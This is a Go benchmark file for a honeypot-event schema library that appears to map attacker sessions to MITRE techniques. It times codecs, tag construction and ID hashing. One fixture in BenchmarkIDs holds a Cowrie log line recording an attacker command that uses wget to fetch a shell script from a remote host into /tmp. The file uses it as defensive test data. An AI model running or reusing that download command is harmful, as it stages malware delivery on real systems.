package schemas_test

import (
	"testing"

	"github.com/ttpstream/ttpstream/schemas"
	"github.com/ttpstream/ttpstream/schemas/schematest"
)

func BenchmarkCodec(b *testing.B) {
	for _, test := range []struct {
		name  string
		codec codec
		value validator
	}{
		{"command", schemas.CommandCodec{}, schematest.Command()},
		{"auth", schemas.AuthCodec{}, schematest.Auth()},
		{"session", schemas.SessionCodec{}, schematest.Session()},
		{"tag", schemas.TagCodec{}, schematest.Tag(b)},
		{"tagged", schemas.TaggedCodec{}, schematest.Tag(b)},
	} {
		raw, err := test.codec.Encode(test.value)
		if err != nil {
			b.Fatal(err)
		}
		run := func(what string, f func() error) {
			b.Run(test.name+"/"+what, func(b *testing.B) {
				b.ReportAllocs()
				for b.Loop() {
					if err := f(); err != nil {
						b.Fatal(err)
					}
				}
			})
		}
		run("encode", func() error { _, err := test.codec.Encode(test.value); return err })
		run("decode", func() error { _, err := test.codec.Decode(raw); return err })
		run("validate", test.value.Validate)
	}
}

func BenchmarkNewTag(b *testing.B) {
	fields := schematest.TagFields(schematest.Command())
	b.ReportAllocs()
	for b.Loop() {
		if _, err := schemas.NewTag(fields); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkIDs(b *testing.B) {
	identity := schemas.TagIdentity{
		SourceKind: schemas.KindCommand, SourceID: eventID.String(), RuleID: "R0012", RuleVersion: 3, TechniqueID: "T1059", SubTechniqueID: "T1059.004",
	}
	line := []byte(`{"eventid":"cowrie.command.input","input":"cd /tmp; wget http://203.0.113.9/bins.sh","message":"CMD: cd /tmp; wget ` +
		`http://203.0.113.9/bins.sh","sensor":"hp-1","uuid":"6a3f69ad-be7f-54b9-9459-2d5019d2970f","timestamp":"2026-04-14T12:00:00.123456Z",` +
		`"src_ip":"198.51.100.7","session":"a1b2c3d4e5f6","protocol":"ssh","duration":1.5}`)
	b.Run("TagID", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			schemas.TagID(identity)
		}
	})
	b.Run("EventID", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			schemas.EventID(line, schemas.EventPart{})
		}
	})
	b.Run("CanonicalJSON", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if _, err := schemas.CanonicalJSON(line); err != nil {
				b.Fatal(err)
			}
		}
	})
}
